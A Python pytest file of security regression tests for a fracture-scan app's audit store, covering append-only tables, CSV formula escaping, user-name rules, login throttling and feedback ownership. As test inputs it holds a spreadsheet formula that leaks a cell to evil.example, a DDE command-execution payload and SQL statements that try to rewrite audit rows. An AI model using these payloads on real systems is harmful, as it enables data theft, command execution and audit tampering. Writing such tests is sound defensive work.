"""Security review findings in the store: append-only bypasses, spreadsheet formulas in exports,
user names, login throttling per client, feedback on someone else's study."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import timedelta

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from fracturescan.store import audit, users
from fracturescan.store.audit import (
    ImageRecord,
    ModelRecord,
    audit_csv,
    audit_rows,
    recent_events,
    record_analysis,
    record_feedback,
)
from fracturescan.store.db import APPEND_ONLY_TABLES, Event, utcnow

from .conftest import ADMIN_PASSWORD, DOCTOR_PASSWORD

MODEL = ModelRecord("run_x", "sha256:abc", "ab" * 32, synthetic=True)


@pytest.fixture(autouse=True)
def _cheap(cheap_argon2: None) -> None:
    """Every test here checks many passwords."""


# --------------------------------------------------------------------------- append-only guard

def _dump(con: sqlite3.Connection, table: str) -> list[tuple]:
    return con.execute(f"SELECT * FROM {table} ORDER BY id").fetchall()


#: Every SQLite statement form that could change or remove an existing row (id 1 exists).
_WRITES = {
    "audit_studies": "threshold = 0.01",
    "audit_images": "probability = 0.01",
    "feedback": "note = 'edited'",
    "events": "detail = 'edited'",
}


def _attacks(table: str, columns: list[str], row: tuple) -> list[str]:
    """UPDATE, UPDATE OR REPLACE, DELETE, INSERT OR REPLACE, REPLACE INTO, an upsert and
    INSERT OR IGNORE, each on row 1."""
    values = ", ".join("?" for _ in columns)
    names = ", ".join(columns)
    change = _WRITES[table]
    return [f"UPDATE {table} SET {change} WHERE id = 1",
            f"UPDATE OR REPLACE {table} SET {change} WHERE id = 1",
            f"DELETE FROM {table} WHERE id = 1",
            f"INSERT OR REPLACE INTO {table} ({names}) VALUES ({values})",
            f"REPLACE INTO {table} ({names}) VALUES ({values})",
            f"INSERT INTO {table} ({names}) VALUES ({values}) ON CONFLICT(id) DO UPDATE SET {change}",
            f"INSERT OR IGNORE INTO {table} ({names}) VALUES ({values})"]


@pytest.mark.parametrize("table", APPEND_ONLY_TABLES)
def test_sqlite_refuses_every_write_form_that_changes_an_audit_row(engine, app_env, table: str) -> None:
    doctor = users.authenticate(engine, "drsmith", DOCTOR_PASSWORD)
    study = record_analysis(engine, doctor, MODEL, 0.5, [ImageRecord("1" * 64, "png", 0.7)])
    record_feedback(engine, doctor, study, agrees=True, note="first")
    engine.dispose()
    path = app_env["FRACTURESCAN_DB_URL"].removeprefix("sqlite:///")
    # A plain sqlite3 connection, without the app's pragmas: what someone with file access uses.
    con = sqlite3.connect(path, isolation_level=None)
    columns = [r[1] for r in con.execute(f"PRAGMA table_info({table})")]
    before = _dump(con, table)
    row = list(before[0])
    row[columns.index({"audit_studies": "threshold", "audit_images": "probability",
                       "feedback": "note", "events": "detail"}[table])] = {
        "audit_studies": 0.01, "audit_images": 0.01, "feedback": "edited", "events": "edited"}[table]
    for statement in _attacks(table, columns, tuple(row)):
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            con.execute(statement, row if "VALUES" in statement else ())
        assert _dump(con, table) == before, statement
    # Appending a new row still works.
    fresh = list(row)
    fresh[0] = None  # a new id
    con.execute(f"INSERT INTO {table} ({', '.join(columns)}) VALUES ({', '.join('?' for _ in columns)})", fresh)
    assert len(_dump(con, table)) == len(before) + 1 and _dump(con, table)[: len(before)] == before
    con.close()


# --------------------------------------------------------------------------- spreadsheet formulas

@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x\",\"y\")", "+1+2", "-2+3", "@SUM(A1)",
                                   "\t=1", "\r=1"])
def test_cells_that_a_spreadsheet_would_run_are_escaped(value: str) -> None:
    escaped = audit.spreadsheet_safe(value)
    assert escaped == "'" + value
    # The CSV reader gets the text back, with the quote a spreadsheet shows as text.
    text = audit_csv([{"feedback": value}])
    assert next(csv.DictReader(io.StringIO(text, newline="")))["feedback"] == "'" + value


def test_harmless_cells_and_numbers_are_unchanged() -> None:
    for value in ("drsmith", "ok = fine", "", "0.5", 0.5, -0.25, True, None):
        assert audit.spreadsheet_safe(value) == value


def test_failed_login_with_a_formula_name_is_exported_as_text(engine) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with pytest.raises(users.AuthenticationError):
        users.authenticate(engine, attack, "whatever-password", client="10.0.0.9")
    doctor = users.authenticate(engine, "drsmith", DOCTOR_PASSWORD)
    study = record_analysis(engine, doctor, MODEL, 0.5, [ImageRecord("2" * 64, "png", 0.7)])
    record_feedback(engine, doctor, study, agrees=False, note="@cmd|' /C calc'!A0")
    for text in (audit.events_csv(recent_events(engine)), audit_csv(audit_rows(engine))):
        for row in csv.reader(io.StringIO(text)):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
    # The table shown on the admin page is escaped too (its own download button exports it).
    assert all(str(v)[:1] not in "=+-@" for e in recent_events(engine) for v in e.values() if v)


@pytest.mark.parametrize("name", ["=cmd", "+x", "a b", "dr/smith", "x" * 65, "", "élodie", "a\tb"])
def test_user_names_are_restricted_to_a_safe_set(engine, name: str) -> None:
    with pytest.raises(users.UserAdminError, match="letters, digits"):
        users.create_user(engine, name, "a-long-password-1", "doctor", actor="admin")


def test_ordinary_user_names_are_accepted(engine) -> None:
    for name in ("dr.jones", "j_doe-2", "A1"):
        assert users.create_user(engine, name, "a-long-password-1", "doctor", actor="admin").username == name


# --------------------------------------------------------------------------- login throttling

def _events(engine, action: str) -> list[Event]:
    with Session(engine) as s:
        return s.scalars(select(Event).where(Event.action == action).order_by(Event.id)).all()


def test_an_attacker_cannot_lock_the_admin_out_from_another_computer(engine) -> None:
    now = utcnow()
    for _ in range(users.MAX_FAILURES + 3):
        with pytest.raises(users.AuthenticationError):
            users.authenticate(engine, "admin", "wrong-password!", now=now, client="203.0.113.7")
    # The attacker's computer is throttled ...
    with pytest.raises(users.AuthenticationError, match="Too many failed attempts"):
        users.authenticate(engine, "admin", ADMIN_PASSWORD, now=now, client="203.0.113.7")
    # ... the real admin, elsewhere, is not.
    assert users.authenticate(engine, "admin", ADMIN_PASSWORD, now=now, client="10.1.1.1").role == "admin"


def test_every_refused_attempt_is_logged_and_locked_or_unknown_answer_alike(engine) -> None:
    now = utcnow()
    answers: dict[str, list[str]] = {}
    for name in ("drsmith", "nobody-here"):
        for i in range(users.MAX_FAILURES + 2):
            with pytest.raises(users.AuthenticationError) as caught:
                users.authenticate(engine, name, "wrong-password!", now=now + timedelta(seconds=i),
                                   client="198.51.100.4")
            answers.setdefault(name, []).append(str(caught.value))
    assert answers["drsmith"] == answers["nobody-here"]  # same words, same waits: nothing to tell apart
    assert answers["drsmith"][-1].startswith("Too many failed attempts")
    failed, refused = _events(engine, "login_failed"), _events(engine, "login_refused")
    assert len(failed) == 2 * users.MAX_FAILURES and len(refused) == 4
    assert all("198.51.100.4" in e.detail for e in failed + refused)


def test_one_client_spraying_many_names_is_throttled(engine) -> None:
    now = utcnow()
    for i in range(users.CLIENT_MAX_FAILURES):
        with pytest.raises(users.AuthenticationError, match="Wrong user name"):
            users.authenticate(engine, f"guess{i}", "wrong-password!", now=now, client="192.0.2.50")
    with pytest.raises(users.AuthenticationError, match="Too many failed attempts"):
        users.authenticate(engine, "drsmith", DOCTOR_PASSWORD, now=now, client="192.0.2.50")
    assert users.authenticate(engine, "drsmith", DOCTOR_PASSWORD, now=now, client="192.0.2.51")


def test_unlock_clears_the_throttle_for_that_user(engine) -> None:
    now = utcnow()
    for _ in range(users.MAX_FAILURES):
        with pytest.raises(users.AuthenticationError):
            users.authenticate(engine, "drsmith", "wrong-password!", now=now, client="10.9.9.9")
    with pytest.raises(users.AuthenticationError, match="Too many"):
        users.authenticate(engine, "drsmith", DOCTOR_PASSWORD, now=now, client="10.9.9.9")
    users.unlock(engine, "drsmith", actor="admin", now=now + timedelta(seconds=1))
    assert users.authenticate(engine, "drsmith", DOCTOR_PASSWORD, now=now + timedelta(seconds=2),
                              client="10.9.9.9").username == "drsmith"


# --------------------------------------------------------------------------- feedback ownership

def test_feedback_only_from_the_studys_own_user_or_an_admin(engine) -> None:
    doctor = users.authenticate(engine, "drsmith", DOCTOR_PASSWORD)
    other = users.create_user(engine, "drjones", "another-password-1", "doctor", actor="admin")
    admin = users.authenticate(engine, "admin", ADMIN_PASSWORD)
    study = record_analysis(engine, doctor, MODEL, 0.5, [ImageRecord("3" * 64, "png", 0.7)])
    with pytest.raises(PermissionError, match="only the doctor who requested it or an administrator"):
        record_feedback(engine, other, study, agrees=False, note="not mine")
    assert record_feedback(engine, doctor, study, agrees=True, note="mine")
    assert record_feedback(engine, admin, study, agrees=False, note="second look")
    text = audit_rows(engine)[0]["feedback"]
    assert "drsmith: agree (mine)" in text and "admin: disagree (second look)" in text
    assert "not mine" not in text

